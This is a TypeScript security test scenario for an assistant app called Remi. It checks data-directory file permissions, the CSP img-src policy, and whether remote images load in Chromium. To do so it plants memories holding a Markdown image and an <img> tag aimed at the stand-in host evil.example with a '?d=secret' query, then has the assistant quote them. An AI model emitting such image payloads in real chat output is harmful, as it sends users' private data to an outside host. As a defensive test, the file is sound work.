/**
 * What could leak without any request of an attacker's (issue 28, items 5 and 6), against the production
 * server on each engine:
 *   - File modes: a DATA_DIR the server creates (no SESSION_SECRET: it writes session-secret itself) is
 *     0700 and everything in it, the PGlite database after memories and chat were written included, is
 *     the owner's only (directories 0700, files 0600), while it runs and after it stops. Loosened as an
 *     older version left it (0755, 0666), the next start tightens it and says so in one warning.
 *   - The Content-Security-Policy allows images from Remi itself and data: URLs only (the SPA, the API).
 *   - No remote image: a memory holding `![x](https://…?leak=…)` quoted by the offline assistant, shown on
 *     /chat, /memories and the dashboard's briefing in Chromium: no request leaves for another host, no
 *     <img> with a remote address, no CSP report.
 *
 * With --quick, on PGlite alone (what is checked does not depend on the engine, but for PGlite's files).
 *
 *   CHROMIUM_PATH (/usr/bin/chromium)
 */
import { execFileSync } from 'node:child_process'
import { chmodSync, existsSync, lstatSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { chromium } from '@playwright/test'
import { startProductionServer, type ProductionServer } from '../../src/test/production-server.ts'
import { signIn, type User } from '../lib/client.ts'
import { defineScenario, type Context, type Engine, type Row } from '../lib/scenario.ts'
import { createStore } from '../lib/stores.ts'

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium'
const webDir = fileURLToPath(new URL('../../../web/', import.meta.url))
const LEAK = 'https://evil.example/leak.png?d=secret'
const LEAK_HOST = 'evil.example'
const TIGHTENED = 'was readable by other users of this machine: tightened'

export default defineScenario({
  name: 'security-leaks',
  async run(context) {
    // A server serves the SPA only if apps/web/dist was there at its start.
    if (!existsSync(join(webDir, 'dist', 'index.html'))) {
      context.log('building the web app for the remote-image check')
      execFileSync('npx', ['vite', 'build', '--logLevel', 'warn'], { cwd: webDir, stdio: 'inherit' })
    }
    // Nothing here depends on the engine but the PGlite files: --quick checks on PGlite (when it runs) alone.
    const engines = context.quick
      ? [context.engines.includes('pglite') ? 'pglite' : context.engines[0]!]
      : context.engines
    if (engines.length < context.engines.length) context.log(`quick: on ${engines[0]} only`)
    const rows: Row[] = []
    for (const engine of engines) rows.push(...(await runOn(context, engine as Engine)))
    return rows
  },
})

async function runOn(context: Context, engine: Engine): Promise<Row[]> {
  const store = await createStore(context, engine, 'security-leaks')
  // DATA_DIR is made by the server: the store's directory is only its parent.
  const dataDir = join(store.dataDir, 'data')
  const logFile = join(context.workDir, `security-leaks-${engine}.log`)
  const options = {
    dataDir,
    databaseUrl: store.databaseUrl,
    logFile,
    sessionSecret: '',
    env: { SESSION_SECRET: undefined, LOG_LEVEL: 'warn' },
  }
  const rows: Row[] = []
  const row = (check: string, failures: string[], detail: string, tried?: number) =>
    rows.push({
      check,
      engine,
      ok: failures.length === 0,
      detail: [detail, ...failures].join('; '),
      ...(tried !== undefined ? { badInputs: { tried, refused: failures.length ? 0 : tried } } : {}),
    })
  const started = performance.now()
  const lap = (what: string) =>
    context.log(`${engine}: ${what} at ${((performance.now() - started) / 1000).toFixed(1)} s`)
  let server: ProductionServer | null = await startProductionServer(options)
  try {
    lap(`ready (${(server.readyMs / 1000).toFixed(1)} s)`)
    const user = await signIn(server.baseUrl, `leaks-${engine}@example.test`)
    lap('signed in')
    const writes = await writeSome(user)
    lap('written')

    const csp = await cspCheck(server.baseUrl)
    row("CSP: img-src 'self' data: on the SPA and the API", csp.failures, csp.detail)

    const images = await remoteImages(server, user)
    row(
      'no remote image: a quoted memory with a Markdown image on /chat, /memories, the briefing (Chromium)',
      [...writes, ...images.failures],
      images.detail,
      images.tried,
    )

    lap('Chromium done')
    const running = privateModes(dataDir)
    await server.stop()
    const stopped = privateModes(dataDir)
    const files = engine === 'pglite' ? `${stopped.files} files` : 'session-secret'
    row(
      'file modes: DATA_DIR 0700, session-secret and the database files 0600 (running and stopped)',
      [...running.failures.map((f) => `running: ${f}`), ...stopped.failures.map((f) => `stopped: ${f}`)],
      `${files}, ${stopped.directories} directories checked`,
    )

    // As an older version left it: the next start closes it again, and says what it changed.
    lap('stopped')
    const loosened = loosen(dataDir)
    server = await startProductionServer({ ...options, port: server.port })
    lap(`ready again (${(server.readyMs / 1000).toFixed(1)} s)`)
    await server.stop()
    const tightened = privateModes(dataDir)
    const line = readFileSync(logFile, 'utf8')
      .split('\n')
      .find((l) => l.includes(TIGHTENED))
    const failures = [...tightened.failures]
    const expected = `tightened ${loosened.directories} ${loosened.directories === 1 ? 'directory' : 'directories'} to 0700 and ${loosened.files} ${loosened.files === 1 ? 'file' : 'files'} to 0600`
    if (!line) failures.push('no log line said what was tightened')
    else if (!line.includes(expected)) failures.push(`the log line says: ${line.slice(0, 200)}`)
    row(
      'file modes: a loosened DATA_DIR (0755, files 0666) is tightened at start, with one warning',
      failures,
      `${loosened.directories} directories and ${loosened.files} files loosened; ${((performance.now() - started) / 1000).toFixed(1)} s in all`,
    )
  } finally {
    await server?.stop()
    await store.drop()
  }
  return rows
}

/** Memories (one a hostile Markdown image), a chat answer quoting it, the briefing: the database is written. */
async function writeSome(user: User): Promise<string[]> {
  const failures: string[] = []
  const soon = new Date(Date.now() + 3 * 24 * 60 * 60 * 1000).toISOString().slice(0, 10)
  const texts = [
    `Pedro sent ![x](${LEAK}) and <img src=${LEAK}>`,
    'The door code is 4711',
    'Water the plants on Friday',
  ]
  for (const text of texts) {
    const res = await user.request('POST', '/api/memories', { text, tags: [`![t](${LEAK})`], date: soon })
    if (res.status !== 201) failures.push(`a memory was answered ${res.status}`)
  }
  const chat = await user.request('POST', '/api/chat/send', { content: 'What did Pedro send?' })
  if (chat.status >= 300) failures.push(`the chat was answered ${chat.status}`)
  const briefing = await user.request('GET', '/api/dashboard/briefing')
  if (briefing.status !== 200) failures.push(`the briefing was answered ${briefing.status}`)
  return failures
}

async function cspCheck(baseUrl: string): Promise<{ failures: string[]; detail: string }> {
  const failures: string[] = []
  let policy = ''
  for (const path of ['/', '/chat', '/api/auth/csrf-token']) {
    const res = await fetch(`${baseUrl}${path}`)
    await res.arrayBuffer()
    policy = res.headers.get('content-security-policy') ?? ''
    const imgSrc = policy.split(';').find((d) => d.trim().startsWith('img-src'))
    if (imgSrc?.trim() !== "img-src 'self' data:") failures.push(`${path}: ${imgSrc ?? 'no img-src'}`)
  }
  return { failures, detail: policy.split(';').find((d) => d.startsWith('img-src')) ?? 'no img-src' }
}

async function remoteImages(
  server: ProductionServer,
  user: User,
): Promise<{ failures: string[]; detail: string; tried: number }> {
  if (!existsSync(CHROMIUM)) return { failures: [`Chromium not found at ${CHROMIUM}`], detail: '', tried: 0 }
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      '--disable-dev-shm-usage',
    ],
  })
  const failures: string[] = []
  const offSite: string[] = []
  const cspReports: string[] = []
  const pages: Array<[string, string]> = [
    ['/chat', 'Pedro sent'],
    ['/memories', 'Pedro sent'],
    ['/dashboard', 'Pedro sent'],
  ]
  try {
    const context = await browser.newContext()
    await context.addCookies(
      user.cookie.split('; ').map((pair) => {
        const at = pair.indexOf('=')
        return { name: pair.slice(0, at), value: pair.slice(at + 1), url: server.baseUrl }
      }),
    )
    const page = await context.newPage()
    page.on('request', (request) => {
      const url = new URL(request.url())
      if (/^https?:$/.test(url.protocol) && url.origin !== server.baseUrl) offSite.push(request.url())
    })
    page.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) cspReports.push(message.text().slice(0, 160))
    })
    for (const [path, expected] of pages) {
      await page.goto(`${server.baseUrl}${path}`)
      try {
        await page.getByText(expected).first().waitFor({ timeout: 30_000 })
      } catch {
        failures.push(`${path}: '${expected}' never showed (at ${page.url()})`)
      }
      await page.waitForLoadState('networkidle')
      const remote = await page.evaluate(
        () => [...document.images].filter((img) => !img.src.startsWith(window.location.origin)).length,
      )
      if (remote) failures.push(`${path}: ${remote} <img> with a remote address`)
    }
    await context.close()
  } finally {
    await browser.close()
  }
  if (offSite.length) failures.push(`requests off the site: ${offSite.slice(0, 3).join(' ')}`)
  if (cspReports.length) failures.push(`CSP reports ${cspReports.length}×: ${cspReports[0]}`)
  const toLeak = offSite.filter((u) => new URL(u).host === LEAK_HOST).length
  return {
    failures,
    detail: `${pages.length} pages, ${offSite.length} requests off the site (${toLeak} to ${LEAK_HOST})`,
    tried: pages.length,
  }
}

/** What under `dir` (itself included) is not the owner's only, and how many directories and files there are. */
function privateModes(dir: string): { failures: string[]; directories: number; files: number } {
  const failures: string[] = []
  let directories = 0
  let files = 0
  const visit = (path: string) => {
    const stat = lstatSync(path)
    if (stat.isSymbolicLink()) return
    const mode = stat.mode & 0o777
    const want = stat.isDirectory() ? 0o700 : 0o600
    if (stat.isDirectory()) directories++
    else files++
    if (mode !== want) failures.push(`${path.slice(dir.length) || 'DATA_DIR'} ${mode.toString(8)}`)
    if (stat.isDirectory()) for (const name of readdirSync(path)) visit(join(path, name))
  }
  visit(dir)
  // The first few: a broken umask would list every file.
  return {
    failures: failures.length > 5 ? [...failures.slice(0, 5), `and ${failures.length - 5} more`] : failures,
    directories,
    files,
  }
}

function loosen(dir: string): { directories: number; files: number } {
  const counts = { directories: 0, files: 0 }
  const visit = (path: string) => {
    const stat = lstatSync(path)
    if (stat.isSymbolicLink()) return
    if (stat.isDirectory()) {
      for (const name of readdirSync(path)) visit(join(path, name))
      chmodSync(path, 0o755)
      counts.directories++
    } else {
      chmodSync(path, 0o666)
      counts.files++
    }
  }
  visit(dir)
  return counts
}
